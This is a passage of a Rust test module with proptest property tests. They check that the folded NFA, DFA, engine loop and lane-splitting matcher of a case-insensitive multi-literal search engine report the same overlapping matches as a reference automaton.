        /// Text made of pieces of the real literals (overlapping, truncated, re-cased) and
        /// arbitrary bytes: the folded NFA over lowercased text reports exactly what the
        /// case-insensitive automata report over the text as it is.
        #[test]
        fn the_folded_nfa_matches_exactly_like_the_case_insensitive_automata(
            pieces in proptest::collection::vec(
                (0usize..10_000, 0usize..64, 0usize..64, proptest::num::u64::ANY, proptest::collection::vec(proptest::num::u8::ANY, 0..3)),
                1..40,
            )
        ) {
            let text = literal_soup(pieces);
            let want = matches(reference_nfa(), &text);
            proptest::prop_assert_eq!(&matches(folded(), &text.to_ascii_lowercase()), &want);
            proptest::prop_assert_eq!(&matches(dfa(), &text), &want);
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig { cases: 512, ..Default::default() })]

        /// The engine's loop over its own NFA (folding bytes on the fly) and DFA reports what
        /// `find_overlapping_iter` reports over the same text, match for match and in order.
        #[test]
        fn the_engine_loop_matches_the_reference_iterator(
            pieces in proptest::collection::vec(
                (0usize..10_000, 0usize..64, 0usize..64, proptest::num::u64::ANY, proptest::collection::vec(proptest::num::u8::ANY, 0..3)),
                1..40,
            )
        ) {
            let text = literal_soup(pieces);
            let want = matches(reference_nfa(), &text);
            proptest::prop_assert_eq!(&loop_matches::<_, true>(engine_nfa(), &text), &want);
            proptest::prop_assert_eq!(&loop_matches::<_, false>(engine_dfa(), &text), &want);
        }

        /// Text of any length (short enough for one lane, or long enough to be cut into
        /// lanes through the middle of literals), with or without line breaks, walked in
        /// lanes: exactly the matches the one-walk loop reports over the whole text, in the
        /// same order.
        #[test]
        fn the_lanes_report_what_the_one_walk_loop_reports(
            pieces in proptest::collection::vec(
                (0usize..10_000, 0usize..64, 0usize..64, proptest::num::u64::ANY, proptest::collection::vec(proptest::num::u8::ANY, 0..3)),
                1..100,
            ),
            newlines in proptest::collection::vec(proptest::num::usize::ANY, 0..12),
        ) {
            let mut text = literal_soup(pieces);
            for at in newlines {
                let at = at % (text.len() + 1);
                text.insert(at, b'\n');
            }
            text.push(b'\n');
            let want = matches(reference_nfa(), &text);
            proptest::prop_assert_eq!(&loop_matches::<_, true>(engine_nfa(), &text), &want);
            proptest::prop_assert_eq!(&lane_matches::<_, true>(engine_nfa(), &text), &want);
            proptest::prop_assert_eq!(&lane_matches::<_, false>(engine_dfa(), &text), &want);
        }
    }
}
